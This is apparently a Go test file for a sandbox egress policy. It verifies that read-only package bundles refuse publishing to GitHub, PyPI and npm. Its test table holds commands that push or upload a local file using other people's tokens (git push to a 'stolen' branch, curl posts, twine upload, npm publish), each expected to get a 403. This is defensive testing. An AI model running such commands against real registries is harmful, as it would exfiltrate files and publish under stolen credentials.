package clients_test

import (
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/rein-sh/rein/egress/policy"
	"github.com/rein-sh/rein/internal/clients"
	"github.com/rein-sh/rein/sandbox"
)

// publisher is a program that leaves something at a registry, with a token of
// somebody's.
type publisher struct {
	name, needs, host, command string
	refused                    string // of the reason on record
	short                      bool   // also in every test run
}

const reads = "a bundle lets nothing but reading through"

var publishers = []publisher{
	{"git push", "git", clients.GitHub, "git clone -q https://" + clients.GitHub + "/rein-lab/hello && cd hello && git -c user.name=a -c user.email=a@b.example commit -q --allow-empty -m x && git push -q https://me:ghp_theirs@" +
		clients.GitHub + "/rein-lab/hello HEAD:stolen", "as git push asks for others", true},
	{"git clone, another", "git", clients.GitHub, "git clone -q https://" + clients.GitHub + "/theirs/hello", "the bundle is for rein-lab/hello", true},
	{"a gist", "curl", clients.GitHub, "curl -sSf -H 'Authorization: token ghp_theirs' -d @Fetch.java https://" + clients.GitHub + "/gist", reads, false},
	{"twine's upload", "curl", clients.PyPI, "curl -sSf -u __token__:pypi-theirs -F :action=file_upload -F content=@Fetch.java https://" + clients.PyPI + "/legacy/", reads, true},
	{"twine", "/usr/bin/python3 -m twine", clients.PyPI, "mkdir a-1 && printf 'Metadata-Version: 2.1\\nName: a\\nVersion: 1\\n' >a-1/PKG-INFO && tar czf a-1.tar.gz a-1 && /usr/bin/python3 -m twine upload -u __token__ -p pypi-theirs --repository-url https://" + clients.PyPI + "/legacy/ a-1.tar.gz", reads, false},
	{"npm publish", "npm", clients.NPM, "mkdir p && cd p && echo '{\"name\":\"theirs\",\"version\":\"1.0.0\"}' >package.json && echo '//" + clients.NPM + "/:_authToken=npm_theirs' >.npmrc && npm publish --no-update-notifier --loglevel error",
		reads, false},
	{"a GET with a body", "curl", clients.NPM, "curl -sSf -X GET -d @Fetch.java https://" + clients.NPM + "/" + clients.Package, "this request has a body", true},
}

// Real programs cannot publish where a bundle lets them install from.
func TestPublishing(t *testing.T) {
	registry, err := clients.New(t.TempDir())
	if err != nil {
		if os.Geteuid() != 0 {
			t.Skipf("ports 443 and 80 are root's: %v", err)
		}
		t.Fatal(err)
	}
	t.Cleanup(registry.Close)
	runtimes := []string{"runc"}
	if *all {
		runtimes = []string{"gvisor", "runc"}
	}
	for _, runtime := range runtimes {
		t.Run(runtime, func(t *testing.T) { tryPublishing(t, provider(t, registry, runtime)) })
	}
}

func tryPublishing(t *testing.T, p sandbox.Provider) {
	box := create(t, p, policy.Document{Bundles: []string{"pypi", "npm", "github:rein-lab/hello"}, Rules: []policy.Rule{{CIDR: "127.0.0.0/8"}}})
	for _, c := range publishers {
		if !c.short && !*all {
			continue
		}
		if r := run(t, box, c.needs+" --version || "+c.needs+" version"); !r.OK() {
			t.Logf("%-18s not tried: %s is not installed", c.name, c.needs)
			continue
		}
		r := run(t, box, c.command)
		said := strings.Join(strings.Fields(string(r.Stdout.Head)+string(r.Stderr.Head)), " ")
		if r.OK() || !strings.Contains(said, "403") || !slices.ContainsFunc(r.Network, func(n sandbox.NetworkRecord) bool {
			return n.Verdict == "deny" && n.Name == c.host && strings.HasPrefix(n.Rule, "bundles.") && strings.Contains(n.Reason, c.refused)
		}) {
			t.Errorf("%s: ended well %v: %s %+v", c.name, r.OK(), said, r.Network)
		}
		t.Logf("%-18s refused: %6d ms  %.140s", c.name, r.DurationMS, said)
	}
	if !*all {
		return
	}
	// npm asks for advisories with POST, and does without.
	r := run(t, box, "npm install --no-update-notifier "+clients.Package+" && node -e 'require(\""+clients.Package+"\")'")
	if !r.OK() || !strings.Contains(string(r.Stdout.Head), clients.Greeting) {
		t.Errorf("npm install with its audit: %s %s", r.Stdout.Head, r.Stderr.Head)
	}
}
